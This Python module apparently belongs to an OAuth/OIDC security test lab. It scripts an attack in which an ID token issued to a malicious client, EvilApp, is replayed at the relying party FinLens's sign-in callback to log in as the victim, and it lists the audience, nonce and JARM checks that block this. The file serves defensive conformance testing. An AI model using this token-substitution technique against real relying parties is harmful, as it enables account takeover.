"""id-token-wrong-audience: an ID token issued to EvilApp presented to FinLens.

A1 runs EvilApp, a client of its own registered at the honest AS. The lured victim signs
in to EvilApp, which redeems the code and keeps his ID token (aud = EvilApp). The
attacker starts "Sign in with HonestBank" at FinLens in its own browser and posts that
ID token with its own state to the sign-in callback. OIDC §3.1.3.7 step 3: "The Client
MUST validate that the aud (audience) Claim contains its client_id value" (§16.11);
FAPI2 §5.3.2.2: no ID token from the front channel; step 11: the nonce is EvilApp's.
"""

from __future__ import annotations

from attacker import signin_support as ss
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from lab.tpp.driver import bank_identity


def run(ctx: AttackContext) -> None:
    victim = ctx.victim("alice")
    id_token = ss.evilapp_id_token(ctx, victim)
    attacker, state = ss.own_pending_signin(ctx)
    fields = {"id_token": id_token, **({"state": state} if state else {})}
    ss.post_signin(ctx, attacker, fields, "posts EvilApp's ID token of the victim with its "
                   "own state to FinLens's sign-in callback")
    response = attacker.http.get(attacker.browser.url("/dashboard"), timeout=60)
    ctx.note_request(response, actor="attacker")
    who = bank_identity(response.text)
    ctx.step("attacker", "opens its FinLens dashboard", url=response.url,
             status=response.status_code)
    if who != (ctx.config.issuer, victim.username):
        ctx.failed(f"the attacker's FinLens session is not {victim.username}'s "
                   f"(it says {who!r})")
    ctx.succeeded(f"signed in to FinLens as {victim.username} with an ID token issued to "
                  "EvilApp", {"issuer": who[0], "subject": who[1]})


ATTACK = Attack(
    id="id-token-wrong-audience", attacker="A1 running EvilApp", legs=("own",), victim="live",
    title="ID token of another client used at the TPP",
    blocked_by=("tpp_id_token_validation", "response_type_code_only", "tpp_checks_nonce"),
    premise="Runs EvilApp, its own client registered at the honest AS, which the victim "
            "signs in to; has its own browser at FinLens.",
    goal="the attacker is signed in to FinLens as the victim", run=run,
    refs=("OIDC §3.1.3.7", "OIDC §16.11", "FAPI2 §5.3.2.2",
          "OpenID conformance suite: ID token with the wrong aud, wrong nonce"),
    also_blocked_by={
        "jarm":
            "FinLens takes a sign-in response only as a JWT the AS signed for FinLens; "
            "EvilApp's ID token of the victim comes in no such response",
        "pairwise_subjects":
            "EvilApp's ID token names the victim by EvilApp's pseudonym, not the one FinLens "
            "knows her by (OIDC Core §8): FinLens signs the attacker in to a new, empty "
            "account, not hers; nothing is refused (the prevented event on EvilApp's token "
            "request)",
    },
    counts_prevented=("pairwise_subjects",),
)
